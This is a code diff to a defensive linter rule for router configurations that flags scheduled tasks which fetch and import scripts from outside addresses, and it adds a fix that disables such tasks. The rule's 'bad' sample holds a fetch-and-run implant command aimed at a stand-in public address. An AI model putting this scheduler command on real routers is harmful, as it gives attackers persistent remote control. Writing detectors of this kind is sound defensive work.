@@ -3,7 +3,7 @@ import { hasImplantName, isImplant, isPoll } from "../facts/implant.ts";
 import { strangerAddress } from "../facts/public-address.ts";
 import { fetchedCode } from "../facts/remote-code.ts";
 import { downloadOf, scriptsOf, textOf } from "../facts/scripts.ts";
-import { defineRule, type Finding } from "../rule.ts";
+import { defineRule, type Finding, type Fix } from "../rule.ts";
 
 /** What router malware leaves behind: a task that keeps fetching orders from an address and importing them. */
 export const schedulerFetchImplant = defineRule({
@@ -19,6 +19,7 @@ export const schedulerFetchImplant = defineRule({
   presets: ["recommended", "strict"],
   bad: '/system scheduler\nadd interval=1d name=U6 on-event="/tool fetch url=http://198.51.100.7/a src-path=a dst-path=a.rsc\\r\\n/import a.rsc"\n',
   good: '/system scheduler\nadd interval=1d name=update on-event="/tool fetch url=http://192.168.88.7/a.rsc dst-path=a.rsc\\r\\n/import a.rsc"\nadd interval=1d name=U6 on-event="/log info daily"\n',
+  fixes: { disable: "suggestion" },
   on: "model",
   check(model) {
     const found = new Map<BoundCommand, Finding>();
@@ -29,6 +30,7 @@ export const schedulerFetchImplant = defineRule({
         at: { command },
         message: `${owner(one.script.holder)} fetches code from \`${host ?? "a server"}\`${strangerAddress(host) === undefined ? "" : ", a bare address,"} and runs it, as router malware does.`,
         related: [{ at: { command: one.runner }, message: "it is run here" }],
+        ...standing(one.script.holder, model),
       });
     }
     return [
@@ -48,10 +50,24 @@ function suspiciousTasks(model: Model): Finding[] {
         {
           at: { command },
           message: `${owner(script.holder)} fetches from \`${download.host ?? "a server"}\`; its ${isPoll(download) ? "address" : "name"} is one that router malware uses.`,
+          ...standing(script.holder, model),
         },
       ];
     }),
   );
+}
+
+/** Switched off it does no more harm, but still tells of the break-in. A script of the script menu cannot be switched off. */
+function standing(holder: BoundCommand | undefined, model: Model): Pick<Finding, "severity" | "fixes"> {
+  const item = holder?.menu === "/system/scheduler" ? model.itemOf(holder) : undefined;
+  if (item === undefined) return {};
+  if (item.isDisabled !== false) return { severity: "warning" };
+  const disable: Fix = {
+    id: "disable",
+    title: "Disable the scheduler",
+    changes: [{ kind: "set", item, properties: { disabled: "yes" } }],
+  };
+  return { fixes: [disable] };
 }
 
 function owner(holder: BoundCommand | undefined): string {
